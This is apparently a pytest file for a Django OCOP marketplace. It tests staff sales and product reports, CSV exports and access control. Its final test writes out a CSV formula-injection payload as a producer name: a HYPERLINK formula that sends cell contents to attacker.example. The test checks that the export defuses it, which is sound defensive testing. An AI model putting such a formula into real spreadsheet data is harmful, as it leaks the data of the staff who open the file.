"""Staff reports: products per star class and OCOP group, sales per producer over a date
range (canceled orders excluded), their admin pages and CSV downloads, and constant query
counts at two data sizes."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from catalog.models import Certificate, ProducerMember
from catalog.reports import StarGroupRow, products_per_star_and_group
from orders.models import Order, OrderStatus
from orders.reports import sales_per_producer
from tests.catalog.factories import default_channel, make_producer, make_product, variant_of
from tests.orders.conftest import shipping  # noqa: F401  (fixture)
from tests.orders.test_orders import place_order

pytestmark = pytest.mark.django_db


def _catalogue(copies: int) -> None:
    producer = make_producer()
    for _ in range(copies):
        make_product(producer=producer, stars=3)  # visible, group 1
        make_product(producer=producer, stars=4, category="do-uong-khong-con")  # group 2
        make_product(producer=producer, stars=4, published=False)  # hidden: unpublished
        make_product(producer=producer, stars=None)  # never certified
        lapsed = make_product(producer=producer, stars=3)
        Certificate.objects.filter(pk=lapsed.current_certificate_id).update(
            valid_until=timezone.localdate() - datetime.timedelta(days=1)
        )


@pytest.mark.parametrize("copies", [1, 3])
def test_products_per_star_and_group_counts_visible_and_all_in_one_query(
    copies, django_assert_num_queries
):
    _catalogue(copies)
    channel = default_channel()

    with django_assert_num_queries(1):
        rows = products_per_star_and_group(channel=channel)

    assert rows == [
        StarGroupRow(stars=4, group=1, group_name="Thực phẩm", visible=0, total=copies),
        StarGroupRow(stars=4, group=2, group_name="Đồ uống", visible=copies, total=copies),
        StarGroupRow(stars=3, group=1, group_name="Thực phẩm", visible=copies, total=2 * copies),
        StarGroupRow(stars=None, group=1, group_name="Thực phẩm", visible=0, total=copies),
    ]


@pytest.fixture
def sales(shipping):  # noqa: F811
    a, b = make_producer("HTX Cà phê A"), make_producer("HTX Dâu tây B")
    coffee = variant_of(make_product("Cà phê", producer=a, prices=(150000,), stock=100))
    jam = variant_of(make_product("Mứt dâu", producer=b, prices=(90000,), stock=100))

    def place(items, *, status=None, days_ago=0):
        order = place_order(shipping, items)
        if status or days_ago:
            Order.objects.filter(pk=order.pk).update(
                status=status or order.status,
                created_at=order.created_at - datetime.timedelta(days=days_ago),
            )
        return order

    return {"a": a, "b": b, "coffee": coffee, "jam": jam, "place": place}


@pytest.mark.parametrize("orders", [1, 3])
def test_sales_per_producer_sums_units_revenue_and_orders_in_one_query(
    sales, orders, django_assert_num_queries
):
    for _ in range(orders):
        sales["place"]([(sales["coffee"], 2), (sales["jam"], 1)])
    sales["place"]([(sales["coffee"], 5)], status=OrderStatus.CANCELED)
    sales["place"]([(sales["jam"], 7)], days_ago=40)  # before the range
    today = timezone.localdate()

    with django_assert_num_queries(1):
        rows = sales_per_producer(start=today - datetime.timedelta(days=7), end=today)

    by_name = {row.producer_name: row for row in rows}
    assert [row.producer_name for row in rows] == ["HTX Cà phê A", "HTX Dâu tây B"]
    coffee, jam = by_name["HTX Cà phê A"], by_name["HTX Dâu tây B"]
    assert (coffee.units, coffee.orders, coffee.currency) == (2 * orders, orders, "VND")
    assert coffee.revenue == Decimal(300000 * orders) and isinstance(coffee.revenue, Decimal)
    assert coffee.revenue.as_tuple().exponent == 0  # whole dong
    assert (jam.units, jam.revenue, jam.orders) == (orders, Decimal(90000 * orders), orders)


def test_sales_range_is_inclusive_of_both_local_days(sales):
    sales["place"]([(sales["jam"], 7)], days_ago=40)
    day = timezone.localdate() - datetime.timedelta(days=40)

    assert [r.units for r in sales_per_producer(start=day, end=day)] == [7]
    assert (
        sales_per_producer(start=day + datetime.timedelta(days=1), end=timezone.localdate()) == []
    )


# --- admin pages ------------------------------------------------------------------------------
def _login(*, staff: bool = False, producer=None) -> Client:
    User = get_user_model()
    n = User.objects.count()
    if staff:
        user = User.objects.create_superuser(email=f"staff{n}@ocop.vn", password="x-pass-123")
    else:
        user = User.objects.create_user(email=f"user{n}@example.vn", password="x-pass-123")
    if producer is not None:
        ProducerMember.objects.create(producer=producer, user=user)
    client = Client()
    client.force_login(user)
    return client


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_staff_see_both_reports_linked_from_the_index_and_download_csv(sales):
    sales["place"]([(sales["coffee"], 2), (sales["jam"], 1)])
    client = _login(staff=True)

    index = client.get(reverse("admin:index")).content.decode()
    assert reverse("admin:report-products") in index and reverse("admin:report-sales") in index

    page = client.get(reverse("admin:report-products"))
    assert page.status_code == 200 and "Thực phẩm" in page.content.decode()
    rows = _csv(client.get(reverse("admin:report-products"), {"format": "csv"}))
    assert rows[0] == ["hang_sao", "nhom_ocop", "ten_nhom", "dang_hien_thi", "tong_so"]
    assert ["3", "1", "Thực phẩm", "2", "2"] in rows

    today = timezone.localdate().isoformat()
    page = client.get(reverse("admin:report-sales"), {"start": today, "end": today})
    assert page.status_code == 200 and "HTX Cà phê A" in page.content.decode()
    rows = _csv(
        client.get(reverse("admin:report-sales"), {"start": today, "end": today, "format": "csv"})
    )
    assert rows == [
        ["chu_the", "tien_te", "so_luong", "doanh_thu", "so_don"],
        ["HTX Cà phê A", "VND", "2", "300000", "1"],
        ["HTX Dâu tây B", "VND", "1", "90000", "1"],
    ]


def test_a_reversed_date_range_shows_an_error_and_no_rows(sales):
    sales["place"]([(sales["coffee"], 1)])
    client = _login(staff=True)
    today = timezone.localdate()

    page = client.get(
        reverse("admin:report-sales"),
        {"start": today.isoformat(), "end": (today - datetime.timedelta(days=1)).isoformat()},
    )

    assert page.status_code == 200
    assert page.context["rows"] == [] and page.context["error"]


def test_reports_are_refused_to_members_customers_and_anonymous(sales):
    member = _login(producer=sales["a"])
    customer = _login()
    for name in ("admin:report-products", "admin:report-sales"):
        url = reverse(name)
        assert member.get(url).status_code == 403
        assert member.get(url, {"format": "csv"}).status_code == 403
        assert customer.get(url).status_code == 302
        assert Client().get(url).status_code == 302
    assert reverse("admin:report-sales") not in member.get(reverse("admin:index")).content.decode()


def test_sales_csv_neutralises_a_producer_name_that_is_a_spreadsheet_formula(sales):
    """A producer named ``=HYPERLINK(...)`` must reach the staff's spreadsheet as text."""
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    sales["a"].name = formula
    sales["a"].save(update_fields=["name"])
    sales["b"].name = "-2+3"
    sales["b"].save(update_fields=["name"])
    sales["place"]([(sales["coffee"], 1), (sales["jam"], 1)])
    today = timezone.localdate().isoformat()

    rows = _csv(
        _login(staff=True).get(
            reverse("admin:report-sales"), {"start": today, "end": today, "format": "csv"}
        )
    )

    names = sorted(row[0] for row in rows[1:])
    assert names == sorted(["'" + formula, "'-2+3"])
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows[1:])
    assert sorted(row[3] for row in rows[1:]) == ["150000", "90000"]  # numbers untouched
